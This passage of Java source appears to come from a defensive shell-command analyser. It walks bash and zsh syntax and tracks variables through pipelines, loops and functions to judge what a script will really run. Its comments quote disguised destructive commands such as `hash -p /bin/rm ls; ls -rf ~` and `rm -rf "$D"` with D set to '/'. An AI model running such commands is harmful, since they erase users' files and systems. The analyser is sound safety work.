        if (!argv.isEmpty() && argv.get(0).literal() && hashed.containsKey(argv.get(0).text())) {
            // `hash -p /bin/rm ls; ls -rf ~`: the name runs the program it was bound to
            List<Word> bound = new ArrayList<>(argv);
            bound.set(0, hashed.get(argv.get(0).text()));
            argv = bound;
        }
        return add(new Draft(drafts.size(), c.parent(), c.depth(), c.prov(), splitArrayWrappers(c.wrappers(), argv, c.vars()), argv, assignments,
                redirects, heredocs, pos));
    }

    /**
     * {@code mapfile -t a < <(find .); rm "${a[@]}"}: a command whose words read an array filled
     * with a split list ({@link Vars#splitArrays}) is marked as a loop over split names is
     * ({@link Segment#SPLIT_LOOP}), so that its delete and write targets from it are split names.
     */
    private static List<String> splitArrayWrappers(List<String> wrappers, List<Word> argv, Vars vars) {
        if (vars.splitArrays.isEmpty()) {
            return wrappers;
        }
        List<String> out = new ArrayList<>(wrappers);
        for (String name : vars.splitArrays) {
            if (readsArray(argv.stream().map(Word::raw).toList(), name) && !out.contains(Segment.SPLIT_LOOP + name)) {
                out.add(Segment.SPLIT_LOOP + name);
            }
        }
        return out.size() == wrappers.size() ? wrappers : List.copyOf(out);
    }

    /** True when one of the {@code raw} words expands variable (or array) {@code name}. */
    private static boolean readsArray(List<String> raw, String name) {
        Pattern p = Pattern.compile("\\$\\{?" + Pattern.quote(name) + "(?![A-Za-z0-9_])");
        return raw.stream().anyMatch(r -> p.matcher(r).find());
    }

    private Draft add(Draft d) {
        if (drafts.size() >= MAX_SEGMENTS) {
            throw new LimitExceeded();
        }
        drafts.add(d);
        return d;
    }

    // ------------------------------------------------------------------ structure

    private void program(BashSplitter.Parsed p, String t, Ctx c) {
        Unit u = Unit.of(t, p.lexer());
        if (p.program().list() != null) {
            list(p.program().list(), c, u);
        }
    }

    private void list(BashParser.ListContext l, Ctx c, Unit u) {
        int item = 0;
        String opBefore = "";
        int id = ++lists;
        List<ParseTree> ch = l.children;
        for (int k = 0; k < ch.size(); k++) {
            if (ch.get(k) instanceof BashParser.AndOrContext a) {
                boolean bg = k + 1 < ch.size() && ch.get(k + 1) instanceof BashParser.SeparatorContext s && s.AMP() != null;
                item = andOr(a, c, u, item, opBefore, bg, id);
                opBefore = "";
            } else if (ch.get(k) instanceof BashParser.SeparatorContext s) {
                opBefore = s.SEMI() != null ? ";" : s.AMP() != null ? "&" : "\n";
            }
        }
    }

    private void compoundList(BashParser.CompoundListContext cl, Ctx c, Unit u) {
        if (cl != null && cl.list() != null) {
            list(cl.list(), c, u);
        }
    }

    private int andOr(BashParser.AndOrContext a, Ctx c, Unit u, int item, String opBefore, boolean bg, int list) {
        String op = opBefore;
        int i = item;
        // the exit status of the list so far when it is constant (`false`, `! true`, `true`), else null
        Boolean status = null;
        boolean first = true;
        for (ParseTree child : a.children) {
            if (child instanceof BashParser.PipelineContext p) {
                // `false || P`, `! true || P`, `true && P`: P surely runs, as it would typed bare
                boolean sure = !first && status != null && (op.equals("||") ? !status : op.equals("&&") && status);
                boolean skipped = !first && status != null && (op.equals("||") ? status : op.equals("&&") && !status);
                pipeline(p, c, u, i++, op, bg, list, sure);
                if (first || sure) {
                    status = constantStatus(p, u);
                } else if (!skipped) {
                    status = null;
                }
                first = false;
            } else if (child instanceof BashParser.AndOrOpContext o) {
                op = o.getText();
            }
        }
        return i;
    }

    /**
     * The exit status of a pipeline that is a single constant command ({@code false}, {@code true},
     * {@code :}, {@code ! true}, {@code [ 1 -eq 2 ]}), or null: anything else, a function or a
     * command the text defines under such a name included, may end either way.
     */
    private Boolean constantStatus(BashParser.PipelineContext p, Unit u) {
        if (p.command().size() != 1 || p.TIME() != null || p.command(0).simpleCommand() == null
                || !p.command(0).redirect().isEmpty()) {
            return null;
        }
        BashParser.SimpleCommandContext sc = p.command(0).simpleCommand();
        String name = sc.WORD().isEmpty() ? "" : sc.WORD().get(0).getText();
        // `alias false=true` (zsh expands aliases in scripts), `hash -p`, a trap or loaded text may
        // turn the constant into anything: the same spoilers as a sure body's (#once)
        if (functions.containsKey(name) || redefined(name) || sureRunSpoiled() || !sc.redirect().isEmpty()) {
            return null;
        }
        String t = TRAILING_OPS.matcher(SPACE.matcher(text(sc, u)).replaceAll("")).replaceAll("");
        Boolean v = Regex.matches(t, "true|:|/bin/true|/usr/bin/true") ? Boolean.TRUE
                : ALWAYS_FALSE.matcher(t).matches() ? Boolean.FALSE : constantTest(text(sc, u));
        return v == null ? null : v ^ (p.BANG() != null);
    }

    private void pipeline(BashParser.PipelineContext p, Ctx c0, Unit u, int item, String op, boolean bg, int list) {
        pipeline(p, c0, u, item, op, bg, list, false);
    }

    private void pipeline(BashParser.PipelineContext p, Ctx c0, Unit u, int item, String op, boolean bg, int list, boolean sure) {
        List<BashParser.CommandContext> cmds = p.command();
        Ctx c = c0;
        if (p.TIME() != null) {
            // the `time` keyword times the pipeline: recorded as a wrapper of its commands
            c = c0.wrapped("time");
        }
        // Assignments that may not run, or run in a subshell, make the variable unknown.
        boolean cond = cmds.size() > 1 || bg || !sure && (op.equals("&&") || op.equals("||"));
        for (int stage = 0; stage < cmds.size(); stage++) {
            Position pos = new Position(item, stage, cmds.size(), op, bg, p.BANG() != null, list);
            BashParser.CommandContext before = stage > 0 ? cmds.get(stage - 1) : null;
            // the lines a `find .`, `git ls-files` or `ls` stage prints (see ProjectLoops)
            loopProducer = before != null && before.simpleCommand() != null && before.redirect().isEmpty()
                    ? text(before.simpleCommand(), u) : null;
            // a stage before the last, or a pipeline in the background, runs in a subshell of its
            // own in bash and zsh: what it assigns does not reach the shell (see #forkedStages)
            boolean forked = bg || stage < cmds.size() - 1;
            forkedStages += forked ? 1 : 0;
            Ctx stageCtx = cond ? c.cond() : c;
            // `d=7200; let d=1 | cat; sleep $d`: the forked stage's assignments stay in its
            // subshell, so this shell keeps what it knew; what the stage assigned is only a maybe
            // value here (stricter than bash: `f() { D=/; }; f | cat; rm -rf "$D"`).
            Vars stageVars = forked ? c.vars().copy() : null;
            // rt32b: the last stage of a pipeline runs here only with lastpipe (see #keepOldValues)
            Map<String, String> knownBefore = !forked && cmds.size() > 1 ? new HashMap<>(c.vars().known) : null;
            try {
                command(cmds.get(stage), forked ? stageCtx.with(stageVars) : stageCtx, u, pos);
                if (knownBefore != null) {
                    keepOldValues(c.vars(), knownBefore);
                }
                if (forked) {
                    Vars shell = c.vars();
                    // a stage walked as conditional keeps its assignments as maybe values, not known
                    // ones: a maybe value of a name this shell knows is a forked value too
                    stageVars.known.forEach((name, value) -> handOn(shell, name, value, true));
                    stageVars.maybe.forEach((name, value) -> handOn(shell, name, value, false));
                }
            } finally {
                forkedStages -= forked ? 1 : 0;
            }
            loopProducer = null;
        }
    }

    /**
     * After the last stage of a pipeline: a name the shell knew and the stage changed keeps its old
     * value, the stage's becomes a forked value read a second time. WHY: the last stage runs in
     * this shell only with lastpipe (off by default in bash, always in zsh and ksh), so
     * {@code d=7200; echo 1 | d=1; sleep $d} sleeps 7200 in bash and 1 in zsh: both are possible.
     * A name the stage made an array ({@code find … | mapfile -t a}) keeps the stage's reading.
     */
    private static void keepOldValues(Vars shell, Map<String, String> knownBefore) {
        knownBefore.forEach((name, old) -> {
            String now = shell.known.get(name);
            if (old.equals(now) || shell.arrays.containsKey(name)) {
                // unchanged, or made an array (`find … | mapfile -t d`): the stage's reading stands
                return;
            }
            String stage = now != null ? now : shell.maybe.get(name);
            shell.known.put(name, old);
            if (stage != null && !stage.equals(old)) {
                shell.forkedValues.put(name, stage);
            }
        });
    }

    /**
     * Hands a value a forked pipeline stage assigned back to {@code shell}: a name the shell does
     * not know gets it as a maybe value (a value the stage surely set replaces an older maybe
     * value, a maybe value of the stage does not), a name it knows with another value keeps that
     * value and gets this one as a forked value for a second reading.
     */
    private static void handOn(Vars shell, String name, String value, boolean sure) {
        String was = shell.known.get(name);
        if (was == null) {
            if (sure) {
                shell.maybe.put(name, value);
            } else {
                shell.maybe.putIfAbsent(name, value);
            }
        } else if (!value.equals(was)) {
            shell.forkedValues.put(name, value);
        }
    }

    /**
     * How many pipeline stages being walked surely run in a subshell ({@code : ${D:=/} | cat},
     * {@code x &}): while above 0, an expansion that may assign makes no candidate value.
     */
    private int forkedStages;

    /** The text of the simple command piped into the compound command being walked, or null (see {@link ProjectLoops}). */
    private String loopProducer;

    private static String text(org.antlr.v4.runtime.ParserRuleContext x, Unit u) {
        return x.stop == null ? "" : u.text().substring(x.start.getStartIndex(), x.stop.getStopIndex() + 1);
    }

    /**
     * The context of a loop body whose variable surely holds in-project paths: one pseudo-wrapper
     * per value source ({@link Segment#PROJECT_LOOP}); {@code c} itself otherwise.
     */
    private static Ctx projectLoop(Ctx c, String name, List<String> samples, BashParser.DoGroupContext body, Unit u) {
        if (name == null || samples == null || !usesVariable(body, name) || samples.stream().noneMatch(s -> s.matches(".*[*?\\[].*"))
                || !ProjectLoops.bodyKeeps(text(body, u), name) || ProjectLoops.changesGlobbing(u.text())) {
            return c;
        }
        Ctx out = c;
        for (String s : samples) {
            out = out.wrapped(Segment.PROJECT_LOOP + name + "=" + s);
        }
        return out;
    }

    private void command(BashParser.CommandContext cmd, Ctx c0, Unit u, Position pos) {
        // A compound command piped into reads that pipe: its commands' stdin is not the terminal.
        Ctx c = cmd.simpleCommand() == null && pos.stage() > 0 ? c0.withStdin(List.of(), List.of(), true) : c0;
        if (cmd.simpleCommand() != null) {
            simple(cmd.simpleCommand(), c, u, pos);
        } else if (cmd.compoundCommand() != null) {
            compound(cmd.compoundCommand(), withRedirects(cmd.redirect(), c, u), u, pos);
        } else if (cmd.coprocCommand() != null) {
            coproc(cmd.coprocCommand(), c, u, pos);
        } else {
            BashParser.FunctionDefContext fd = cmd.functionDef();
            userCommands.add(fd.WORD().getText());
            if (!fd.WORD().getText().chars().allMatch(ch -> "'\"$`\\".indexOf(ch) < 0)) {
                // a function name is a plain word
                opaque(text(fd, u), c, OpaqueReason.SYNTAX_ERROR);
            }
            if (fd.WORD().getText().equals(ZSH_DEBUG_TRAP)) {
                // zsh's DEBUG trap by name runs its body before every command, and a body that sets
                // ERR_EXIT skips that command (DEBUG_BEFORE_CMD, on by default): `cd build` may not
                // run before `rm -rf ./*`, so no straight-line reading after it holds
                opaque(text(fd, u), c, OpaqueReason.UNSUPPORTED_CONSTRUCT);
            }
            // a definition is walked again at each call (see #call); one that may not have run only
            // for what it may do, the call staying unknown
            functions.put(fd.WORD().getText(), Optional.of(new FunctionDef(fd.functionBody(), u,
                    !c.conditional() && !substituted(c.wrappers()))));
            Ctx body = new Ctx(c.parent(), c.depth(), structural(c, Provenance.FUNCTION_BODY), c.wrappers(), c.vars().copy(), true,
                    c.inRedirects(), c.inHeredocs(), c.inStdinFile());
            body.vars().positional = null; // "$@" in a function is its arguments
            compound(fd.functionBody().compoundCommand(), withRedirects(fd.functionBody().redirect(), body, u), u, pos);
        }
    }

    /**
     * {@code coproc [NAME] command}: the command runs asynchronously in a subshell, split like
     * {@code ( command ) &}; the shell then sets the array NAME (default {@code COPROC}) and
     * {@code NAME_PID}. A NAME that is not a plain name may set any variable.
     */
    private void coproc(BashParser.CoprocCommandContext cp, Ctx c, Unit u, Position pos) {
        Position async = new Position(pos.item(), pos.stage(), pos.stages(), pos.opBefore(), true, pos.negated(), pos.list());
        Ctx s = c.sub(structural(c, Provenance.SUBSHELL), c.parent());
        String name = "COPROC";
        if (cp.simpleCommand() != null) {
            simple(cp.simpleCommand(), s, u, async);
        } else {
            if (cp.WORD() != null) {
                children(cp.WORD().getSymbol(), u, c, c.parent());
                Word w = decode(cp.WORD().getSymbol(), u, c).word();
                name = w.literal() && Names.isIdentifier(w.text(), 0, w.text().length()) ? w.text() : null;
            }
            compound(cp.compoundCommand(), withRedirects(cp.redirect(), s, u), u, async);
        }
        if (name == null) {
            c.vars().known.clear();
        } else {
            c.vars().forget(name);
            c.vars().forget(name + "_PID");
        }
    }

    /** Redirections of a compound command apply to every command inside it. */
    private Ctx withRedirects(List<BashParser.RedirectContext> rs, Ctx c, Unit u) {
        if (rs.isEmpty()) {
            return c;
        }
        List<Redirect> out = new ArrayList<>();
        List<Heredoc> hs = new ArrayList<>();
        boolean file = false;
        for (BashParser.RedirectContext r : rs) {
            Redirect red = sameCommandDescriptor(redirect(r, u, c), out);
            out.add(red);
            file |= red.op().equals("<") || red.op().equals("<>");
            Heredoc h = heredocOf(r, red, u);
            if (h != null) {
                hs.add(h);
                BashLexerBase.HeredocBody b = u.heredocs().get(r.redirectOp().getStart().getStartIndex());
                if (b != null && !b.quoted() && !red.op().equals("<<<")) {
                    // the substitutions of an unquoted body run once, before the compound command
                    Set<OpaqueReason> reasons = EnumSet.noneOf(OpaqueReason.class);
                    heredocChildren(b.body(), c, c.parent(), reasons);
                    for (OpaqueReason reason : reasons) {
                        opaque(b.body(), c, reason);
                    }
                }
            }
            children(r.WORD().getSymbol(), u, c, c.parent());
        }
        return c.withStdin(out, hs, file);
    }

    private static final Set<Provenance> STRUCTURAL =
            EnumSet.of(Provenance.TOP, Provenance.SUBSHELL, Provenance.BRACE_GROUP, Provenance.COMPOUND);

    /**
     * The provenance of commands in a compound body: the structural kind at the text's own level,
     * but a substitution, payload or function body keeps its more telling provenance inside.
     */
    private static Provenance structural(Ctx c, Provenance p) {
        return STRUCTURAL.contains(c.prov()) ? p : c.prov();
    }

    private void compound(BashParser.CompoundCommandContext cc, Ctx c, Unit u, Position pos) {
        Ctx body = c.with(structural(c, Provenance.COMPOUND)).cond();
        if (cc.braceGroup() != null) {
            compoundList(cc.braceGroup().compoundList(), c.with(structural(c, Provenance.BRACE_GROUP)), u);
        } else if (cc.subshell() != null) {
            Ctx s = c.sub(structural(c, Provenance.SUBSHELL), c.parent());
            compoundList(cc.subshell().compoundList(), s.withStdin(c.inRedirects(), c.inHeredocs(), c.inStdinFile()), u);
        } else if (cc.ifClause() != null) {
            List<BashParser.CompoundListContext> lists = cc.ifClause().compoundList();
            compoundList(lists.get(0), body, u);
            // `if true; then …; fi`: the branch surely runs, once (see #once)
            boolean sure = ALWAYS_RUNS.matcher(lists.get(0).getText().replaceAll("\\s", "").replaceAll("[;&]+$", "")).matches()
                    && once(lists.get(1), c) && List.of("true", ":", "[").stream().noneMatch(this::redefined);
            compoundList(lists.get(1), sure ? c.with(structural(c, Provenance.COMPOUND)) : body, u);
            for (BashParser.ElifPartContext e : cc.ifClause().elifPart()) {
                e.compoundList().forEach(cl -> compoundList(cl, body, u));
            }
            if (cc.ifClause().elsePart() != null) {
                compoundList(cc.ifClause().elsePart().compoundList(), body, u);
            }
        } else if (cc.whileClause() != null) {
            BashParser.WhileClauseContext w = cc.whileClause();
            String producer = loopProducer;
            loopProducer = null;
            Ctx loop = endless(w.compoundList(), w.doGroup(), ALWAYS_TRUE, pos, u) ? body.wrapped(ENDLESS_LOOP) : body;
            // the values before the condition, whose walk as conditional forgets them (see #conditionPasses)
            Map<String, String> before = loopStartValues(c.vars());
            compoundList(w.compoundList(), loop, u);
            // `find . -name '*.txt' -print0 | while IFS= read -r -d '' f; do …`: the names are in-project paths
            String condition = text(w.compoundList(), u);
            try {
                doGroup(w.doGroup(), pos.stage() == 0 ? loop : projectLoop(loop, ProjectLoops.readVariable(condition),
                        ProjectLoops.listerSamples(producer, condition), w.doGroup(), u), u);
            } finally {
                conditionPasses(condition, w.doGroup(), false, c.vars(), before);
            }
        } else if (cc.untilClause() != null) {
            BashParser.UntilClauseContext w = cc.untilClause();
            Ctx loop = endless(w.compoundList(), w.doGroup(), ALWAYS_FALSE, pos, u) ? body.wrapped(ENDLESS_LOOP) : body;
            Map<String, String> before = loopStartValues(c.vars());
            compoundList(w.compoundList(), loop, u);
            try {
                doGroup(w.doGroup(), loop, u);
            } finally {
                conditionPasses(text(w.compoundList(), u), w.doGroup(), true, c.vars(), before);
            }
        } else if (cc.forClause() != null) {
            BashParser.ForClauseContext f = cc.forClause();
            int listFrom = drafts.size();
            // the values before the list or the C-style header, whose walk may forget them (see #loopPasses)
            Map<String, String> before = loopStartValues(c.vars());
            loopWords(f.WORD(), f.ARITH_CMD(), c, u);
            int listTo = drafts.size();
            try {
                forBody(f, c, u, pos, body, before);
            } finally {
                loopList(f.ARITH_CMD() == null ? f.WORD() : List.of(), listFrom, listTo);
            }
        } else if (cc.selectClause() != null) {
            int listFrom = drafts.size();
            loopWords(cc.selectClause().WORD(), null, c, u);
            int listTo = drafts.size();
            doGroup(cc.selectClause().doGroup(), body, u);
            loopList(cc.selectClause().WORD(), listFrom, listTo);
        } else if (cc.caseClause() != null) {
            BashParser.CaseClauseContext k = cc.caseClause();
            children(k.WORD().getSymbol(), u, c, c.parent());
            looseWordEvaluations(k.WORD().getSymbol(), c, u);
            // `case x in x) …;; esac`: a plain word and plain patterns before it; the first arm
            // naming the word surely runs, once (see #once); the arms walked after it stay maybes
            String subject = k.WORD().getText();
            // `shopt -s nocasematch`: `x)` matches X before the arm naming it (see #patternsTouched)
            boolean plain = PLAIN_WORD.matcher(subject).matches() && !patternsTouched;
            boolean matched = false;
            for (BashParser.CaseItemContext item : k.caseItem()) {
                item.WORD().forEach(w -> children(w.getSymbol(), u, c, c.parent()));
                item.WORD().forEach(w -> looseWordEvaluations(w.getSymbol(), c, u));
                plain &= item.WORD().stream().allMatch(w -> PLAIN_WORD.matcher(w.getText()).matches());
                boolean sure = plain && !matched && item.compoundList() != null
                        && item.WORD().stream().anyMatch(w -> w.getText().equals(subject)) && once(item.compoundList(), c);
                matched |= plain && item.WORD().stream().anyMatch(w -> w.getText().equals(subject));
                compoundList(item.compoundList(), sure ? c.with(structural(c, Provenance.COMPOUND)) : body, u);
            }
        } else if (cc.condCommand() != null) {
            cond(cc.condCommand(), c, u, pos);
        } else if (cc.arithCommand() != null) {
            arith(cc.arithCommand().ARITH_CMD().getSymbol(), c, u, pos);
        }
    }

    /** If conditions that surely succeed, whitespace removed, a trailing separator dropped. */
    private static final Pattern ALWAYS_RUNS = Pattern.compile("true|:|\\[1\\]|\\[\\[1\\]\\]|\\(\\(1\\)\\)|/bin/true|/usr/bin/true");
    /** A word with no quoting, expansion or pattern: its text is its value. */
    private static final Pattern PLAIN_WORD = Pattern.compile("[A-Za-z0-9_.,+/-]+");
    /** A command name with no quoting or expansion ({@code :} and {@code [} included). */
    private static final Pattern COMMAND_NAME = Pattern.compile("[A-Za-z0-9_.,+/:\\[-]+");

    /**
     * True when a body the shell surely enters ({@code if true}, a for list of one plain word, the
     * case arm naming a plain word) also runs to its end, once, whenever {@code c} does: {@code c} is
     * unconditional and every command of the body ({@link #runsThrough}) is named by a plain word
     * that cannot leave it early. Its commands then set and unset variables as the ones around it
     * do, so a value set in it is known after it.
     *
     * <p>WHY: a body walked as conditional keeps only maybe values; {@code case x in x) : ${D:=/};
     * rm -rf "${E:+$D}";; esac} then reads less than the same list typed bare. FAIL CLOSED: anything
     * else (a function named {@code true}, a loop around, a pipeline, an early exit, a command
     * named by an expansion) keeps the conditional walk.
     */
    private boolean once(ParseTree body, Ctx c) {
        if (c.conditional() || sureRunSpoiled()) {
            return false;
        }
        Map<String, List<BashParser.FunctionBodyContext>> local = new HashMap<>();
        definitions(body, local);
        return runsThrough(body, false, new HashSet<>(), local);
    }

    /**
     * True when the text may make any command not run as written, so no body or list is surely
     * run ({@link #once}, {@link #constantStatus}): text loaded before (eval, source, .) may define
     * any function or alias; a zsh global alias, a trap (an extdebug DEBUG trap skips commands, an
     * ERR trap runs after any failing one) or a disabled builtin ({@code enable -n true}) may turn
     * or skip any command.
     */
    private boolean sureRunSpoiled() {
        return textLoaded || !globalAliases.isEmpty() || text.contains("extdebug") || ONCE_SPOILERS.matcher(text).find();
    }

    /**
     * True when {@code name} may not be the builtin it spells: a function or alias of the text
     * ({@code alias true=false}, {@code BASH_ALIASES[true]=false}), a dynamic definition, or a
     * name bound by {@code hash -p}.
     */
    private boolean redefined(String name) {
        return userCommands.contains(name) || aliases.containsKey(name) || hashed.containsKey(name);
    }

    /**
     * zsh's DEBUG trap as a function name: defined ({@code TRAPDEBUG() {…}}), autoloaded or set in
     * the {@code functions} table, it runs before every command and may skip it, so the text is opaque.
     */
    private static final String ZSH_DEBUG_TRAP = "TRAPDEBUG";

    /** Commands anywhere in the text that make a body's commands not run as written (see #once). */
    private static final Pattern ONCE_SPOILERS = Pattern.compile("(^|[\\s;&|(){}'\"`])(trap|enable|TRAPDEBUG|TRAPZERR)([\\s;&|()'\"`]|$)");

    /** The function definitions inside {@code t}, by name. */
    private static void definitions(ParseTree t, Map<String, List<BashParser.FunctionBodyContext>> out) {
        if (t instanceof BashParser.FunctionDefContext fd) {
            out.computeIfAbsent(fd.WORD().getText(), k -> new ArrayList<>()).add(fd.functionBody());
        }
        for (int i = 0; i < t.getChildCount(); i++) {
            definitions(t.getChild(i), out);
        }
    }

    /** Commands that may leave a body early, or run text that may ({@code eval "bre""ak"}). */
    private static final Set<String> LEAVES = Set.of("break", "continue", "return", "exit", "logout", "exec", "kill", "eval",
            "source", ".", "trap", "alias", "builtin", "command", "enable", "let", "set", "shopt", "unalias");

    /**
     * True when every simple command in {@code t} (function definitions left out: they run when
     * called) is named by a plain word outside {@link #LEAVES} ({@code return} allowed in a
     * function's body) and every function it calls is one the text defined, in {@code t} or
     * before, whose body runs through too.
     */
    private boolean runsThrough(ParseTree t, boolean inFunction, Set<String> visiting,
            Map<String, List<BashParser.FunctionBodyContext>> local) {
        if (t instanceof BashParser.FunctionDefContext) {
            return true;
        }
        if (t instanceof BashParser.SimpleCommandContext sc) {
            String name = sc.WORD().stream().map(TerminalNode::getText).filter(w -> !Wrappers.isAssignment(w)).findFirst().orElse(null);
            if (name == null) {
                return true;
            }
            if (!COMMAND_NAME.matcher(name).matches() || LEAVES.contains(name) && !(inFunction && name.equals("return"))
                    || aliases.containsKey(name) || hashed.containsKey(name)) {
                return false; // an alias or a hashed name may be `break`, `exit`, `false`…
            }
            // every body the name may have: defined before the body, or in it
            List<BashParser.FunctionBodyContext> bodies = new ArrayList<>(local.getOrDefault(name, List.of()));
            Optional<FunctionDef> before = functions.get(name);
            if (before != null && before.isEmpty()) {
                return false;
            }
            if (before != null) {
                bodies.add(before.get().body());
            }
            if (bodies.isEmpty()) {
                return !userCommands.contains(name);
            }
            if (!visiting.add(name)) {
                return false; // a recursive call
            }
            boolean through = bodies.stream().allMatch(b -> runsThrough(b, true, visiting, local));
            visiting.remove(name);
            return through;
        }
        for (int i = 0; i < t.getChildCount(); i++) {
            if (!runsThrough(t.getChild(i), inFunction, visiting, local)) {
                return false;
            }
        }
        return true;
    }


    /** The loops whose list words the text spells ({@link SplitResult#loopLists}). */
    private final List<SplitResult.LoopList> loopLists = new ArrayList<>();

    /**
     * Records a {@code for}/{@code select} loop's variable and list words ({@code words}: the name,
     * then the list; none for an arithmetic for) once its body is walked: the list's substitutions
     * are the drafts {@code listFrom} to {@code listTo}, the body's those after them. A list of
     * literal words only names nothing a value flow carries and is not recorded.
     */
    private void loopList(List<TerminalNode> words, int listFrom, int listTo) {
        if (words.size() < 2 || !dev.shellwarden.grammar.bash.Names.isIdentifier(words.get(0).getText())) {
            return;
        }
        String list = String.join(" ", words.subList(1, words.size()).stream().map(TerminalNode::getText).toList());
        if (list.indexOf('$') < 0 && list.indexOf('`') < 0) {
            return;
        }
        loopLists.add(new SplitResult.LoopList(words.get(0).getText(), list, listFrom, listTo, listTo, drafts.size()));
    }

    /** The body of a {@code for} loop, walked once per literal value, as a project or split-list loop, or once. */
    private void forBody(BashParser.ForClauseContext f, Ctx c, Unit u, Position pos, Ctx body, Map<String, String> before) {
        List<Word> positional = c.vars().positional;
        try {
            forBodyWalk(f, c, u, pos, body);
        } finally {
            loopPasses(f, c.vars(), before, positional);
        }
    }

    /**
     * The values a loop's replay ({@link #replay}) starts from: the known ones, and where a name has
     * none, its maybe value when that is a plain integer. WHY (the fresh-clone CI's metamorphic
     * test): inside {@code if true; then …; fi} or a case arm the walk is conditional, so
     * {@code d=3} before {@code for …; do ((d--)); done; kill -9 $d} is only a maybe value, and a
     * replay from the known values alone saw nothing. INVARIANT (fail closed): the replay still
     * only adds maybe values, so starting from one never makes a value known.
     */
    private static Map<String, String> loopStartValues(Vars v) {
        Map<String, String> out = new HashMap<>();
        v.maybe.forEach((name, value) -> {
            if (value.matches("-?[0-9]{1,18}")) {
                out.put(name, value);
            }
        });
        out.putAll(v.known);
        return out;
    }

    /** Most passes of a literal for list followed by {@link #loopPasses}. */
    static final int MAX_PASSES = 64;

    /**
     * {@code d=1; for i in 1 2 3; do (( d = d * 60 )); done; sleep $d}: the body's walk forgot d
     * (it may run any number of times), keeping its old value as a maybe value. The body's
     * arithmetic steps ({@link LoopSteps}) are replayed here over the values known before the
     * loop: once per word of a literal list, a numeric brace range or the known positional
     * parameters ({@code for i;}), the loop variable holding each word in turn; a C-style loop
     * from its start while its condition holds. A list of unknown length (a glob, a
     * substitution) or a condition not computed here may run any number of times: the steps
     * are replayed {@link #MAX_PASSES} times. The value of the largest magnitude seen (the
     * longest wait, a negative timeout) becomes the maybe value of each name assigned, for a
     * second reading of the commands after the loop (see {@link #maybeReading}).
     *
     * <p>INVARIANT (fail closed): this only adds a maybe value where the walk left the name
     * unknown, and never makes a value known; a step not computed ends the replay there, the
     * values seen so far still count.
     */
    private void loopPasses(BashParser.ForClauseContext f, Vars vars, Map<String, String> before, List<Word> positional) {
        if (f.ARITH_CMD() != null) {
            // `for ((i=0; i<3; i++))`: start, condition, step
            String[] parts = LoopSteps.inner(f.ARITH_CMD().getText()).split(";", -1);
            if (parts.length == 3) {
                replay(new Loop(null, null, parts[0], parts[1], parts[2], false), LoopSteps.variants(f.doGroup()), vars, before);
            }
            return;
        }
        String loopName = f.WORD().get(0).getText();
        if (!dev.shellwarden.grammar.bash.Names.isIdentifier(loopName)) {
            return;
        }
        List<String> values = f.IN() == null
                ? positional == null ? null : positional.stream().map(Word::text).toList()
                : listValues(f.WORD().subList(1, f.WORD().size()).stream().map(TerminalNode::getText).toList());
        replay(new Loop(loopName, values, null, null, null, false), LoopSteps.variants(f.doGroup()), vars, before);
    }

    /**
     * {@code d=1; while (( d < 7200 )); do (( d *= 20 )); done; sleep $d}: the passes of a
     * while or until loop, replayed while a lone {@code (( … ))} condition holds (see
     * {@link #loopPasses}); any other condition may hold any number of times.
     */
    private void conditionPasses(String condition, BashParser.DoGroupContext body, boolean until, Vars vars, Map<String, String> before) {
        java.util.regex.Matcher m = LONE_ARITHMETIC.matcher(condition.strip());
        String test = m.matches() && !m.group(1).contains("))") ? m.group(1) : null;
        replay(new Loop(null, null, null, test, null, until), LoopSteps.variants(body), vars, before);
    }

    /** A condition that is one {@code (( … ))} command. */
    private static final Pattern LONE_ARITHMETIC = Pattern.compile("\\(\\((.*)\\)\\)\\s*;?", Pattern.DOTALL);

    /** A numeric brace range of a for list ({@code {1..3}}). */
    private static final Pattern NUMERIC_RANGE = Pattern.compile("\\{(-?[0-9]{1,6})\\.\\.(-?[0-9]{1,6})\\}");

    /** The words of a for list, plain words and numeric brace ranges; null when their number is not known here. */
    static List<String> listValues(List<String> words) {
        List<String> out = new ArrayList<>();
        for (String w : words) {
            java.util.regex.Matcher r = NUMERIC_RANGE.matcher(w);
            if (r.matches()) {
                long from = Long.parseLong(r.group(1));
                long to = Long.parseLong(r.group(2));
                if (Math.abs(to - from) >= MAX_PASSES) {
                    return null;
                }
                for (long i = from; from <= to ? i <= to : i >= to; i += from <= to ? 1 : -1) {
                    out.add(Long.toString(i));
                }
            } else if (PLAIN_WORD.matcher(w).matches()) {
                out.add(w);
            } else {
                return null; // `*`, `$(ls)`, `"$@"`: any number of words
            }
        }
        return out.size() > MAX_PASSES ? null : out;
    }

    /**
     * How a loop runs its body: the loop variable and its values (null values: any number of
     * passes), or a C-style start, condition and step (a {@code while}/{@code until} loop has
     * only the condition; null parts are absent, a null condition may hold any number of times).
     */
    private record Loop(String name, List<String> values, String start, String condition, String step, boolean until) {
    }

    /** Replays {@code steps} as {@code loop} runs them and keeps the largest values as maybe values (see {@link #loopPasses}). */
    private void replay(Loop loop, List<List<String>> variants, Vars vars, Map<String, String> before) {
        if (variants.get(0).isEmpty()) {
            return;
        }
        // each variant of a pass (every step, only the sure ones: LoopSteps#variants) adds its largest values
        Map<String, String> largest = new HashMap<>();
        Map<String, Ends> ends = new HashMap<>();
        for (List<String> steps : variants) {
            replayOnce(loop, steps, vars, before, new Seen(largest, ends));
        }
        largest.forEach((name, v) -> {
            String old = before.get(name);
            String pick = old == null ? v : old.matches("-?[0-9]{1,18}") ? larger(old, v) : null;
            if (pick != null && !vars.known.containsKey(name) && !name.equals(loop.name())) {
                vars.maybe.put(name, pick);
                List<String> others = ends.get(name).others(pick);
                if (others.isEmpty()) {
                    vars.maybeEnds.remove(name);
                } else {
                    vars.maybeEnds.put(name, others);
                }
            }
        });
    }

    /** What a replay keeps of the values it sees: the largest magnitude of each name, and its {@link Ends}. */
    private record Seen(Map<String, String> largest, Map<String, Ends> ends) {
    }

    /**
     * The smallest and largest numbers a name passed through in a replay, and the one nearest
     * zero: with the largest magnitude ({@link #replay}'s maybe value) they are the values a
     * reader may find worst (a long sleep, pid 0 or -1 for kill, a negative index).
     */
    private record Ends(long min, long max, long nearest) {
        Ends with(long v) {
            return new Ends(Math.min(min, v), Math.max(max, v), Math.abs(v) < Math.abs(nearest) ? v : nearest);
        }

        /** The distinct ends other than {@code pick}, as texts. */
        List<String> others(String pick) {
            Set<String> out = new java.util.LinkedHashSet<>(List.of(Long.toString(min), Long.toString(max), Long.toString(nearest)));
            out.remove(pick);
            return List.copyOf(out);
        }
    }

    /** Replays one list of steps as {@code loop} runs them, merging the values seen into {@code largest}. */
